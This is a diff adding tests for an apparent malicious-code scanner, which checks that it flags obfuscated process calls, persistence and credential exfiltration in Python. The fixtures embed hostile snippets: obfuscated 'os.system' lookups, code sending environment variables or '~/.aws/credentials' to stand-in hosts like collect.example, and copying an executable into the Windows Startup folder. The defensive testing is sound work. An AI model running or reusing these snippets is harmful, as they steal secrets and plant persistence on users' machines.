@@ -286,6 +286,11 @@ test('code Python runs as it defines a function (defaults, annotations, a decora
   assert.equal(triggerOf(wrapper), 'call');
   // the body of a function with a default still runs when called
   assert.equal(triggerOf(`import os\ndef f(x=1):\n    ${command}\n`), 'call');
+  // a plain value as a default is used by the body: it belongs to the function (samba's cdir="/etc/cron.d")
+  const cron = findings('def process(script, cdir="/etc/cron.d"):\n    return cdir\n').find(
+    (f) => f.rule === 'persistence',
+  );
+  assert.equal(cron?.trigger, 'call');
 });
 
 test("an import hook's methods run on import: Python calls the finder on sys.meta_path for every later import", () => {
@@ -320,4 +325,57 @@ test('secrets read through pathlib, a command that dumps saved passwords, or a w
   // a tool that reads its own settings file, or runs a command that prints nothing secret, sends no secret
   assert.equal(sent('(pathlib.Path.home() / ".config" / "tool.toml").read_text()'), undefined);
   assert.equal(sent('subprocess.check_output(["security", "list-keychains"])'), undefined);
+});
+
+test('a process API fetched by a name split into written pieces ("sys" + "tem") is hidden; written out, it is not', () => {
+  const hidden = (source: string) => findings(source).find((f) => f.rule === 'obfuscated-builtin')?.severity;
+  assert.equal(hidden('def run(c):\n    getattr(__import__("o" + "s"), "sys" + "tem")(c)\n'), 'high');
+  assert.equal(hidden('import os\ndef run(c):\n    f = vars(os)["po" + "pen"]\n    return f(c)\n'), 'high');
+  assert.equal(hidden('import os\ngetattr(os, "sys" + "tem")("true")\n'), 'critical');
+  assert.equal(hidden('import os\ndef run(c):\n    return getattr(os, "system")(c)\n'), undefined);
+  // a prefix joined to a variable part is dispatch, not a hidden name
+  assert.equal(
+    hidden('import os\ndef run(kind, c):\n    return getattr(os, "spawn" + kind)(os.P_WAIT, c)\n'),
+    undefined,
+  );
+});
+
+test('data sent over a connection made on another line reaches the sink, with the connection as its destination', () => {
+  const sent = (body: string) =>
+    findings(`import http.client, asyncio, xmlrpc.client, os, json\nasync def send():\n${body}`).find(
+      (f) => f.rule === 'exfiltration',
+    );
+  const https = sent(
+    '    c = http.client.HTTPSConnection("api.collect.example")\n    c.request("POST", "/in", body=json.dumps(dict(os.environ)))\n',
+  );
+  assert.equal(https?.severity, 'high');
+  assert.equal(https?.destination?.host, 'api.collect.example');
+  const stream = sent(
+    '    r, w = await asyncio.open_connection("collect.example", 8443)\n    w.write(json.dumps(dict(os.environ)).encode())\n',
+  );
+  assert.equal(stream?.destination?.host, 'collect.example');
+  const rpc = sent(
+    '    p = xmlrpc.client.ServerProxy("http://collect.example/rpc")\n    p.store(open(os.path.expanduser("~/.aws/credentials")).read())\n',
+  );
+  assert.match(rpc?.message ?? '', /AWS credentials/);
+});
+
+test('an autostart place or a credential file named only by the path os.path.join builds is still named', () => {
+  const list = findings(
+    [
+      'import os, shutil, sys',
+      'def install():',
+      '    dest = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "u.exe")',
+      '    shutil.copy(sys.executable, dest)',
+      'def key():',
+      '    return os.path.join(os.path.expanduser("~"), ".aws", "credentials")',
+      '',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(list, 'persistence')?.severity, 'high');
+  assert.match(ruleOf(list, 'sensitive-file-access')?.message ?? '', /AWS credentials/);
+  // a path whose pieces say nothing of the kind is not reported
+  const plain = findings('import os\ndef cache():\n    return os.path.join(os.getenv("HOME"), ".cache", "tool")\n');
+  assert.equal(ruleOf(plain, 'persistence'), undefined);
+  assert.equal(ruleOf(plain, 'sensitive-file-access'), undefined);
 });
